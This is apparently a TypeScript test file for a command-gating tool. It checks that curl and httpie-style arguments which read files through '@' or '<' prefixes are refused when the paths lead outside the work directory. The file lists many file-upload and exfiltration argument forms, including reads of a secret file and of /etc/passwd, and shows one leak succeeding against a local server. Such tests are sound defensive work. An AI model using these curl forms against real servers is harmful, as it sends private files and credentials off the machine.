/**
 * Class 3: "prefix + path" arguments. curl reads the file named after `@` or `<` (`-d @file`,
 * `-F 'name=<file'`, `-F 'name=@file;type=text/plain'`, `--data-urlencode name@file`), httpie
 * after `=@`, `:=@`, `=<` and `@`. A local HTTP server on 127.0.0.1 receives what curl sends, so
 * each attack first shows the secret leaving without toolgate; then `cli_execute` and `shell`
 * must refuse every variant. Ordinary text with the same characters (emails, `git@host:x`,
 * `HEAD@{1}`) must still pass.
 */
import { execFile } from 'node:child_process';
import { symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { attackFixture, type AttackFixture, cli, refusedWith, SECRET, shell, skip, which } from './fixture.js';

let fx: AttackFixture;
let server: Server;
let url: string;
let received: string[];

beforeEach(async () => {
  fx = attackFixture();
  symlinkSync(fx.secret, join(fx.work, 'leak'));
  received = [];
  server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      received.push(`${request.method} ${request.url}\n${JSON.stringify(request.headers)}\n${Buffer.concat(chunks).toString()}`);
      response.end('ok');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/upload`;
});

afterEach(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** Runs curl directly (asynchronously, so this process's server can answer). */
function curlDirectly(curl: string, args: string[]): Promise<void> {
  return new Promise((resolve) => execFile(curl, args, { cwd: fx.work }, () => resolve()));
}

const CURL_ATTACKS: [string, string[]][] = [
  ['-d @file', ['-d', '@../outside/secret']],
  ['-d@file attached', ['-d@../outside/secret']],
  ['--data-binary @file', ['--data-binary', '@../outside/secret']],
  ['--data-urlencode name@file', ['--data-urlencode', 'name@../outside/secret']],
  ['--data-urlencode @file', ['--data-urlencode', '@../outside/secret']],
  ['-F name=<file', ['-F', 'f=<../outside/secret']],
  ['-F name=@file', ['-F', 'f=@../outside/secret']],
  ['-F name=@file;type=', ['-F', 'f=@../outside/secret;type=text/plain']],
  ['-F with a quoted file name', ['-F', 'f=@"../outside/secret";filename=x.txt']],
  ['-F through a symlink', ['-F', 'f=<leak']],
  ['-T file', ['-T', '../outside/secret']],
  ['-H @file', ['-H', '@../outside/secret']],
  ['--json @file', ['--json', '@../outside/secret']],
];

describe('curl reading files named after a prefix', () => {
  it.each(CURL_ATTACKS)('refuses %s', async (_name, args) => {
    const curl = which('curl');
    if (!curl) return skip('curl is not installed');
    await curlDirectly(curl, ['-s', ...args, url]);
    const supported = received.some((request) => request.includes(SECRET));
    if (!supported) console.warn(`this curl does not send ${args.join(' ')}; checking the refusal only`);
    received = [];
    expect(await refusedWith(() => cli(fx, ['curl'])('curl', ['-s', ...args, url]))).toBe('PATH_OUTSIDE_ROOT');
    const quoted = args.map((arg) => `'${arg}'`).join(' ');
    expect(await refusedWith(() => shell(fx)(`curl -s ${quoted} ${url}`))).toBe('PATH_OUTSIDE_ROOT');
    expect(received.join('\n')).not.toContain(SECRET);
  });

  it('proves the attack: curl -d @file sends the file without toolgate', async () => {
    const curl = which('curl');
    if (!curl) return skip('curl is not installed');
    await curlDirectly(curl, ['-s', '-d', '@../outside/secret', url]);
    expect(received.join('\n')).toContain(SECRET);
  });

  it('sends files inside the work directory', async () => {
    if (!which('curl')) return skip('curl is not installed');
    const run = cli(fx, ['curl']);
    expect((await run('curl', ['-s', '-F', 'f=@payload;type=text/plain', url])).exitCode).toBe(0);
    expect((await run('curl', ['-s', '-d', '@payload', url])).exitCode).toBe(0);
    expect(received.join('\n')).toContain('payload');
  });
});

describe('httpie-style and other prefix forms', () => {
  it.each([
    ['field=@file', 'field=@../outside/secret'],
    ['field:=@file', 'field:=@../outside/secret'],
    ['field=<file', 'field=<../outside/secret'],
    ['field@file', 'field@../outside/secret'],
    ['header:@file', 'X-Token:@/etc/passwd'],
    ['a symlink after =@', 'field=@leak'],
    ['a response file with a type suffix', '@/etc/passwd;type=text/plain'],
    ['a path in a write-out group', '%output{../outside/written}'],
  ])('refuses %s', async (_name, arg) => {
    expect(await refusedWith(() => cli(fx, ['printf'])('printf', ['%s', arg]))).toBe('PATH_OUTSIDE_ROOT');
  });

  it.each(['a@b.example', 'git@github.com:org/x.git', 'HEAD@{1}', 'user@host', 'field=@value', 'name=<b>bold</b>', 'x:=@y'])(
    'passes ordinary text %s',
    async (arg) => {
      const result = await cli(fx, ['printf'])('printf', ['%s', arg]);
      expect(result.stdout).toBe(arg);
    },
  );
});
